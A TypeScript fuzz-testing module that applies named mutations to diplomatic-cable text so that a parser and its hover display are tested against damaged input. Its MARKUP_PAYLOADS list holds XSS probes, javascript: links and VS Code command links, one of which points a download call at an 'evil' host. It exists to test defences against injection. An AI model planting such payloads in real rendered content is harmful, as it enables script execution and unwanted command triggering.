/**
 * Named mutations of a cable, each a kind of damage real files show (docs/variations.md
 * §15-16) or that an editor session produces: lines lost, repeated or moved, files cut
 * short, stray bytes, mixed line ends, encodings read wrongly, reflowed lines, and text
 * that tries to become markup in a hover. A case records the names it applied, so a
 * failure says what kind of input broke.
 */
import type { Random } from '../helpers/random';

interface Mutator {
	readonly name: string;
	readonly apply: (text: string, random: Random) => string;
}

/** Lines with their line ends attached, so joining them gives the text back. */
export function linesOf(text: string): string[] {
	return text.match(/[^\r\n]*(?:\r\n|\r|\n)|[^\r\n]+$/g) ?? [];
}

/** A run of whole lines: its first index and its length (at least one line when any exist). */
function lineSpan(lines: readonly string[], random: Random): [number, number] {
	const start = random.int(lines.length);
	return [start, 1 + random.small(Math.min(30, lines.length - start - 1))];
}

function insertAt(text: string, offset: number, insert: string): string {
	return text.slice(0, offset) + insert + text.slice(offset);
}

/** Somewhere in the text, in the first few hundred characters (the header) half of the time. */
function offsetIn(text: string, random: Random): number {
	return random.chance(0.5) ? random.int(Math.min(text.length, 2000) + 1) : random.int(text.length + 1);
}

function repeatedly(text: string, random: Random, times: number, edit: (text: string) => string): string {
	for (let n = random.between(1, times); n > 0; n--) text = edit(text);
	return text;
}

/** Code units a file can hold: controls, lone surrogate halves, noncharacters, anything. */
export function randomCodeUnits(random: Random, length: number): string {
	const ranges: ReadonlyArray<[number, number]> = [
		[0x00, 0x1f],
		[0x20, 0x7e],
		[0x20, 0x7e],
		[0x80, 0xff],
		[0x100, 0x7ff],
		[0xd800, 0xdfff],
		[0xfff0, 0xffff],
		[0, 0xffff],
	];
	let out = '';
	for (let i = 0; i < length; i++) {
		const [low, high] = random.pick(ranges);
		out += String.fromCharCode(random.between(low, high));
	}
	return out;
}

/** Pieces of cable syntax, so that damage lands on the shapes the parser looks for. */
export const CABLE_FRAGMENTS: readonly string[] = [
	'VZCZCXRO1234',
	'PP RUEHWEB',
	'DE RUEHKO #0374/01 0260754',
	'ZNY CCCCC ZZH',
	'P 260754Z JAN 07',
	'O R 181205Z NOV 75 ZFF4',
	'FM AMEMBASSY TOKYO',
	'TO RUEHC/SECSTATE WASHDC PRIORITY 0137',
	'INFO RUEHBJ/AMEMBASSY BEIJING 1234',
	'BT',
	'NNNN',
	'C O N F I D E N T I A L SECTION 01 OF 03 TOKYO 000374',
	'UNCLAS SECTION 02 of 02 STATE 017263',
	'LIMITED OFFICIAL USE',
	'SIPDIS',
	'NOFORN',
	'E.O. 12958: DECL: 01/25/2017',
	'EO 12958 DECL: N/A',
	'TAGS: PREL, PGOV, KNNP, JA',
	'TAGS\tPREL\u00a0PTER',
	'SUBJECT: ',
	'REF: A. STATE 1234 B. TOKYO 99',
	'Classified By: Ambassador J. Thomas Schieffer. Reasons 1.4 (b) and (d)',
	'¶1. (C) ',
	'1.(S//NF) ',
	'2) (SBU) ',
	'-------------',
	'--- TOPIC ---',
	'END SUMMARY.',
	'COMMENT: ',
	'END COMMENT.',
	'TOKYO 00000374 002 OF 003',
	'PAGE 01 ATHENS 02959 171944Z',
	'ACTION EUR-25',
	'Viewing cable 07TOKYO374, S/P DIRECTOR KRASNER',
	'Identifier',
	'Reference ID: 07TOKYO374',
	'This record is a partial extract of the original cable.',
	'SCHIEFFER',
];

/** Text a hostile cable might carry to become a link, image, command or HTML in a hover. */
export const MARKUP_PAYLOADS: readonly string[] = [
	'[click](command:workbench.action.terminal.new)',
	'[x](command:_workbench.downloadResource?%5B%22http%3A%2F%2Fevil%22%5D)',
	'![pixel](https://tracker.example/p.png)',
	'<img src=x onerror=alert(1)>',
	'<a href="command:workbench.action.quit">here</a>',
	'<script>alert(1)</script>',
	'[a]: javascript:alert(1)\n[a]',
	'javascript:alert(1)',
	'http://evil.com/x',
	'www.evil.com',
	'mailto:a@evil.com',
	'a@evil.com',
	'\\[x\\](command:y)',
	'\\\\[x](command:y)',
	'`` ` ``',
	'&lt;b&gt;&#x3C;i&#62;',
	'<https://evil.com>',
	'***bold*** _em_ # heading',
	'| a | b |\n|---|---|',
];

/** What a long run inside a field is made of: single characters the patterns skip or repeat, and short motifs. */
const RUN_MOTIFS: readonly string[] = [
	' ',
	'\t',
	'-',
	'(',
	')',
	'1',
	'A',
	'a',
	'.',
	'/',
	':',
	',',
	'\u00a0',
	' A',
	'1.',
	'//',
	'(C)',
	', ',
];

export const MUTATORS: readonly Mutator[] = [
	{
		name: 'delete lines',
		apply: (text, random) => {
			const lines = linesOf(text);
			const [start, count] = lineSpan(lines, random);
			lines.splice(start, count);
			return lines.join('');
		},
	},
	{
		name: 'duplicate lines',
		apply: (text, random) => {
			const lines = linesOf(text);
			const [start, count] = lineSpan(lines, random);
			lines.splice(random.int(lines.length + 1), 0, ...lines.slice(start, start + count));
			return lines.join('');
		},
	},
	{
		name: 'swap lines',
		apply: (text, random) =>
			repeatedly(text, random, 5, (current) => {
				const lines = linesOf(current);
				const a = random.int(lines.length);
				const b = random.int(lines.length);
				[lines[a], lines[b]] = [lines[b]!, lines[a]!];
				return lines.join('');
			}),
	},
	{ name: 'truncate', apply: (text, random) => text.slice(0, random.int(text.length + 1)) },
	{
		name: 'delete characters',
		apply: (text, random) =>
			repeatedly(text, random, 8, (current) => {
				const at = offsetIn(current, random);
				return current.slice(0, at) + current.slice(at + 1 + random.small(40));
			}),
	},
	{
		name: 'random code units',
		apply: (text, random) =>
			repeatedly(text, random, 8, (current) => insertAt(current, offsetIn(current, random), randomCodeUnits(random, 1 + random.small(50)))),
	},
	{
		name: 'mixed line ends',
		apply: (text, random) => text.replace(/\r\n|\r|\n/g, () => random.pick(['\n', '\r\n', '\r', '\n\r'])),
	},
	{
		name: 'byte order mark',
		apply: (text, random) => '\ufeff' + (random.chance(0.3) ? insertAt(text, offsetIn(text, random), '\ufeff') : text),
	},
	{
		name: 'NUL characters',
		apply: (text, random) =>
			repeatedly(text, random, 6, (current) => insertAt(current, offsetIn(current, random), '\0'.repeat(1 + random.small(20)))),
	},
	{
		name: 'Unicode line separators',
		apply: (text, random) =>
			repeatedly(text, random, 6, (current) =>
				insertAt(current, offsetIn(current, random), random.pick(['\u2028', '\u2029', '\u0085', '\f', '\v'])),
			),
	},
	{
		name: 'tabs',
		apply: (text, random) => text.replace(/ +/g, (spaces) => (random.chance(0.3) ? '\t'.repeat(1 + random.small(2)) : spaces)),
	},
	{ name: 'no-break spaces', apply: (text, random) => text.replace(/ /g, (space) => (random.chance(0.3) ? '\u00a0' : space)) },
	{
		name: 'join lines into one',
		apply: (text, random) => {
			const lines = linesOf(text);
			const start = random.int(lines.length);
			const count = random.small(lines.length - start);
			const joined = lines
				.slice(start, start + count)
				.map((line) => line.replace(/[\r\n]+$/, ' '))
				.join('');
			lines.splice(start, count, joined);
			return lines.join('');
		},
	},
	{
		name: 'very long line',
		apply: (text, random) => {
			const lines = linesOf(text);
			const at = random.int(lines.length);
			const content = (lines[at] ?? '').replace(/[\r\n]+$/, '') || 'WORDS AND MORE WORDS ';
			lines[at] = content.repeat(Math.ceil(random.between(5_000, 200_000) / content.length)) + '\n';
			return lines.join('');
		},
	},
	{
		// A pattern that backtracks or rescans over a run inside a field costs its length squared or
		// worse (a `Classified By:` with 700 spaces in it once took 40 s): every field must read in linear time.
		name: 'long run inside a field',
		apply: (text, random) =>
			repeatedly(text, random, 3, (current) => {
				const lines = linesOf(current);
				const at = random.chance(0.5) ? random.int(Math.min(lines.length, 60)) : random.int(lines.length);
				const content = (lines[at] ?? '').replace(/[\r\n]+$/, '');
				const column = random.int(content.length + 1);
				const run = random.pick(RUN_MOTIFS).repeat(100 + random.small(40_000));
				lines[at] = content.slice(0, column) + run + (lines[at] ?? '').slice(column);
				return lines.join('');
			}),
	},
	{ name: 'Latin-1 bytes read as UTF-8', apply: (text) => Buffer.from(text, 'latin1').toString('utf8') },
	{ name: 'UTF-8 bytes read as Latin-1', apply: (text) => Buffer.from(text, 'utf8').toString('latin1') },
	{
		name: 'cable fragments',
		apply: (text, random) =>
			repeatedly(text, random, 10, (current) => {
				const fragment = random.pick(CABLE_FRAGMENTS);
				return insertAt(current, offsetIn(current, random), random.chance(0.5) ? `\n${fragment}\n` : fragment);
			}),
	},
	{
		name: 'markup payloads',
		apply: (text, random) =>
			repeatedly(text, random, 10, (current) => insertAt(current, offsetIn(current, random), random.pick(MARKUP_PAYLOADS))),
	},
	{
		name: 'blank and whitespace lines',
		apply: (text, random) =>
			repeatedly(text, random, 6, (current) => {
				const lines = linesOf(current);
				lines.splice(random.int(lines.length + 1), 0, random.pick(['\n', ' \n', '\t\n', '\f\n', '\r\n', '   \r']));
				return lines.join('');
			}),
	},
	{
		name: 'change case',
		apply: (text, random) => {
			const start = offsetIn(text, random);
			const end = start + random.small(2000);
			const span = text.slice(start, end);
			return text.slice(0, start) + (random.chance(0.5) ? span.toLowerCase() : span.toUpperCase()) + text.slice(end);
		},
	},
];
